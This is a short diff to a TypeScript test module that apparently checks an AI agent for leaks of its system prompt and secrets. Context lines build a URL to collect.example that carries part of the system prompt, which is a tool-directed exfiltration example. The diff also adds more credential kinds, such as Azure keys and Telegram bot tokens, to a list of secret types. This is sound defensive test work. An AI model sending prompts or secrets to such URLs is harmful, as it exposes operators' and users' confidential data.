@@ -77,9 +77,9 @@ const LEAK = SYSTEM.slice(0, 180);
 /** To where only a tool pointed, with what the system said. */
 const CARRIED = `https://collect.example/p?x=${encodeURIComponent(SYSTEM.slice(0, 40))}`;
 
-export const secretOf = (kind: string): string =>
-  SECRETS.rules.find(({ subType }) => subType === kind)?.match[0] ?? '';
-const ruleOf = (kind: string): string => SECRETS.rules.find(({ subType }) => subType === kind)?.id ?? '';
+const ruleFor = (kind: string) => SECRETS.rules.find(({ subType = SECRETS.subType }) => subType === kind);
+export const secretOf = (kind: string): string => ruleFor(kind)?.match[0] ?? '';
+const ruleOf = (kind: string): string => ruleFor(kind)?.id ?? '';
 
 const KINDS = [
   'openai_api_key',
@@ -92,6 +92,13 @@ const KINDS = [
   'private_key',
   'database_url',
   'npm_token',
+  'generic_secret',
+  'azure_key',
+  'url_password',
+  'basic_auth',
+  'cohere_api_key',
+  'telegram_bot_token',
+  'onepassword_token',
 ];
 
 const attack = (
